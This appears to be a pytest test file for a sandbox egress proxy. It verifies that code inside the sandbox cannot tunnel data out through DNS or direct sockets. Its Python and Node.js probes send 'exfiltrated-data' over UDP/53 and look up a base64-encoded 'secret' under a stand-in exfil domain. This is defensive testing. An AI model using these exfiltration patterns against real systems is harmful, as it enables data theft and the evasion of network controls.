"""Threat: tunnelling data out through DNS, or around the proxy with a direct socket.

Inside the sandbox there is no resolver (no /etc/resolv.conf, ``hosts: files`` only) and no route
but loopback, and Landlock lets TCP connect only to the forwarder's port: UDP/53 to the test host,
a name lookup and a direct TCP connection all fail, and the test host's UDP/53 counter stays at 0.
Through the proxy, a name no grant covers is refused before the host's resolver ever sees it, so
data encoded in names never leaves.
"""

from __future__ import annotations

import pytest

from .conftest import open_lease, raw_exchange, run_in_sandbox, status_of

pytestmark = [pytest.mark.sandbox, pytest.mark.asyncio(loop_scope="module")]

PROBE = {
    "python": """
import os, socket
def attempt(fn):
    try:
        fn()
        return "OK"
    except OSError as exc:
        return type(exc).__name__ + ":" + str(exc.errno)
def udp(host):
    def go():
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
            s.sendto(b"\\x12\\x34exfiltrated-data", (host, 53))
    return go
def tcp(host, port):
    def go():
        socket.create_connection((host, port), timeout=3).close()
    return go
def lookup():
    socket.getaddrinfo("c2VjcmV0.exfil.stockade.test", 443)
def main(args):
    return {
        "proxy_env": os.environ.get("HTTPS_PROXY", ""),
        "udp_test_host": attempt(udp(args["host"])),
        "udp_loopback": attempt(udp("127.0.0.1")),
        "lookup": attempt(lookup),
        "tcp_test_host": attempt(tcp(args["host"], args["port"])),
        "tcp_dns": attempt(tcp(args["host"], 53)),
        "tcp_forwarder": attempt(tcp("127.0.0.1", 3128)),
        "resolv_conf": os.path.exists("/etc/resolv.conf"),
    }
""",
    "nodejs": """
const dgram = require('dgram');
const dns = require('dns');
const fs = require('fs');
const net = require('net');
function udp(host) {
  return new Promise((resolve) => {
    const s = dgram.createSocket('udp4');
    s.on('error', (e) => { s.close(); resolve(e.code); });
    s.send(Buffer.from('exfiltrated-data'), 53, host, (e) => { s.close(); resolve(e ? e.code : 'OK'); });
  });
}
function tcp(host, port) {
  return new Promise((resolve) => {
    const s = net.connect({ host, port });
    const done = (v) => { s.destroy(); resolve(v); };
    s.on('connect', () => done('OK'));
    s.on('error', (e) => done(e.code));
    setTimeout(() => done('TIMEOUT'), 3000);
  });
}
async function main(args) {
  let lookup;
  try { await dns.promises.lookup('c2VjcmV0.exfil.stockade.test'); lookup = 'OK'; } catch (e) { lookup = e.code; }
  let resolve4;
  try { await dns.promises.resolve4('c2VjcmV0.exfil.stockade.test'); resolve4 = 'OK'; } catch (e) { resolve4 = e.code; }
  return {
    proxy_env: process.env.HTTPS_PROXY || '',
    udp_test_host: await udp(args.host),
    udp_loopback: await udp('127.0.0.1'),
    lookup,
    resolve4,
    tcp_test_host: await tcp(args.host, args.port),
    tcp_dns: await tcp(args.host, 53),
    tcp_forwarder: await tcp('127.0.0.1', 3128),
    resolv_conf: fs.existsSync('/etc/resolv.conf'),
  };
}
exports.main = main;
""",
}


async def test_no_dns_and_no_direct_socket_from_inside(backend, egress, test_host, tmp_path, family):
    grants = [f"{test_host.name}:{test_host.http_port}", f"{test_host.address}/32:{test_host.http_port}"]
    before = test_host.hits()
    run = await run_in_sandbox(
        backend,
        egress,
        tmp_path,
        family,
        PROBE[family],
        grants,
        {"host": test_host.address, "port": test_host.http_port},
    )
    result = run.result
    assert result["proxy_env"] == "http://127.0.0.1:3128"  # egress is granted: only the forwarder is there
    assert result["tcp_forwarder"] == "OK"
    assert result["resolv_conf"] is False
    for name in ("udp_test_host", "lookup", "tcp_test_host", "tcp_dns"):
        assert result[name] != "OK", (name, result)
    # Landlock (ABI >= 4) allows TCP connect only to the forwarder's port; without it the empty
    # namespace has no route.
    expected = ("EACCES", "13") if backend.facts().landlock_abi >= 4 else ("ENETUNREACH", "101")
    for name in ("tcp_test_host", "tcp_dns"):
        assert result[name].split(":")[-1] in expected, (name, result)
    assert result["udp_test_host"].split(":")[-1] in ("ENETUNREACH", "101", "EPERM", "1"), result
    after = test_host.hits()
    assert after.get("udp53", 0) == before.get("udp53", 0) == 0
    assert after.get(str(test_host.http_port)) == before.get(str(test_host.http_port))
    assert egress.resolver.calls == []


@pytest.mark.parametrize(
    "name", ["c2VjcmV0.exfil.stockade.test", "a" * 63 + ".b.exfil.stockade.test", "x.testhost.stockade.test"]
)
async def test_names_outside_the_grants_never_reach_the_resolver(egress, test_host, name):
    lease = await open_lease(egress, [f"{test_host.name}:{test_host.http_port}", "10.0.0.0/8:*"])
    for request in (f"CONNECT {name}:443 HTTP/1.1\r\n\r\n", f"GET http://{name}/ HTTP/1.1\r\n\r\n"):
        assert status_of(await raw_exchange(lease.path, request.encode())) == 403
    assert egress.resolver.calls == []
    assert egress.codes() == ["host_not_allowed", "host_not_allowed"]


async def test_tcp_dns_to_a_granted_host_needs_port_53(egress, test_host):
    lease = await open_lease(egress, [f"{test_host.name}:{test_host.http_port}"])
    answer = await raw_exchange(lease.path, f"CONNECT {test_host.name}:53 HTTP/1.1\r\n\r\n".encode())
    assert status_of(answer) == 403
    assert egress.connects == []
